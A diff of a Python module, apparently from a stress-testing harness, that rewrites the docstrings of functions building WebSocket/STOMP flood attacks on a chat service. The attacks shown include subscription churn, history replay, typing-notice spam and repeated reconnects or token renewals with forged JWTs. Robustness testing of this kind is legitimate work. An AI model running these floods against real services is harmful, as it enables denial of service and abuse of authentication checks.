@@ -1,4 +1,4 @@
-"""The attacks: what each says first, and what it then repeats."""
+"""The attacks: the first bytes of each, and the bytes that it repeats."""
 
 from collections.abc import Callable, Mapping
 from dataclasses import dataclass
@@ -20,13 +20,13 @@ _ERRORS = stomp("SUBSCRIBE", {"id": "errors", "destination": "/user/queue/errors
 
 @dataclass(frozen=True)
 class Flood:
-    """What one connection does after the upgrade."""
+    """The bytes of one connection after the upgrade."""
 
     hello: bytes
     block: bytes
     """Repeated as fast as the product takes it."""
     then: bytes = b""
-    """Said a moment after the hello."""
+    """Sent a moment after the first bytes."""
     path: str = ""
     """Where the WebSocket is, if not at `/ws`."""
     reads: bool = True
@@ -63,7 +63,7 @@ def single_bytes(_: AttackRequest) -> Flood:
 
 
 def resumes(request: AttackRequest) -> Flood:
-    """Ask for all that was ever said in a room, again and again."""
+    """Replay a room from its beginning, again and again."""
     topic = f"/topic/rooms.{request.rooms[0]}"
     wanted = {"id": "0", "destination": topic, "since": request.since[0]}
     again = stomp("SUBSCRIBE", wanted) + stomp("UNSUBSCRIBE", {"id": "0"})
@@ -71,7 +71,7 @@ def resumes(request: AttackRequest) -> Flood:
 
 
 def subscriptions(request: AttackRequest) -> Flood:
-    """Come and go in a room, which is told who is present."""
+    """Subscribe and unsubscribe, so that presence changes."""
     topic = f"/topic/rooms.{request.rooms[0]}"
     wanted = {"id": "0", "destination": topic}
     again = stomp("SUBSCRIBE", wanted) + stomp("UNSUBSCRIBE", {"id": "0"})
@@ -85,7 +85,7 @@ def acknowledgements(request: AttackRequest) -> Flood:
 
 
 def tokens(request: AttackRequest) -> Flood:
-    """Renew the token with tokens that nobody signed; each has a signature to be checked."""
+    """Renew the token with forged tokens; each signature must be checked."""
     head, _, rest = request.token.partition(".")
     body, _, signature = rest.partition(".")
     forged = f"{head}.{body}.{signature[::-1]}"
@@ -102,7 +102,7 @@ def transactions(request: AttackRequest) -> Flood:
 
 
 def typing(request: AttackRequest) -> Flood:
-    """Tell a room without a break that somebody types."""
+    """Send typing notices without pause."""
     notice = stomp("SEND", {"destination": f"/app/rooms.{request.rooms[0]}.typing"})
     live = stomp("SUBSCRIBE", {"id": "l", "destination": f"/topic/rooms.{request.rooms[0]}.live"})
     return Flood(connect(request.token) + _ERRORS + live, filled(notice, _BLOCK_BYTES))
@@ -115,7 +115,7 @@ def nowhere(request: AttackRequest) -> Flood:
 
 
 def logins(_: AttackRequest) -> Flood:
-    """Come back after each refusal of a token that nobody signed."""
+    """Reconnect with a forged token after each refusal."""
     forged = connect("eyJhbGciOiJFZERTQSJ9.e30." + "A" * 86)
     return Flood(forged, filled(text("\n"), 2048))
 
